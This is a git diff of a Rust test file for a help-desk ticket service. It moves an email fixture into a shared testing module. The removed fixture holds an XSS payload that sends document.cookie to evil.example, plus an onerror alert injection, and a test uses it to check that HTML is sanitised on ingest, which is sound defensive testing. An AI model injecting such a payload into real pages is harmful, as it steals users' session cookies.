@@ -8,6 +8,7 @@ mod common;
 
 use common::caller;
 use sau_domain::{Automatic, ThreadedBy, Visibility};
+use sau_service::testing::html_mail_with_image;
 use sau_service::{
     Action, Caller, Ingested, MailIntake, MailSettings, NewUserInput, Service, ServiceSettings,
     SmtpSettings, TicketQuery,
@@ -285,30 +286,11 @@ async fn a_reply_to_a_ticket_the_sender_may_not_write_on_is_a_new_request() {
     }
 }
 
-/// A mail with an HTML body that carries a script, and a PNG attached.
-fn html_mail_with_image() -> Vec<u8> {
-    use base64::Engine;
-    let png: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82";
-    let png = base64::engine::general_purpose::STANDARD.encode(png);
-    format!(
-        "From: solicitante@sau.example\r\nTo: sau@sau.example\r\nSubject: Pantalla rota\r\n\
-         Message-ID: <html@mail.example>\r\nMIME-Version: 1.0\r\n\
-         Content-Type: multipart/mixed; boundary=\"sep\"\r\n\r\n\
-         --sep\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
-         <p>La pantalla <b>parpadea</b>.</p><script>fetch('https://evil.example/'+document.cookie)</script>\
-         <img src=\"https://tracker.example/pixel.gif\" onerror=\"alert(1)\">\r\n\
-         --sep\r\nContent-Type: image/png; name=\"foto.png\"\r\n\
-         Content-Disposition: attachment; filename=\"foto.png\"\r\n\
-         Content-Transfer-Encoding: base64\r\n\r\n{png}\r\n--sep--\r\n"
-    )
-    .into_bytes()
-}
-
 #[tokio::test]
 async fn html_is_kept_clean_and_attachments_are_kept_like_uploads() {
     for backend in backends() {
         let (service, _db) = service_on(backend).await;
-        let number = created(ingest(&service, &html_mail_with_image()).await);
+        let number = created(ingest(&service, &html_mail_with_image("html@mail.example")).await);
         let requester = caller(&service, "solicitante").await;
         let detail = service.ticket(&requester, &number).await.expect("theirs");
         let entry = &detail.entries[0];
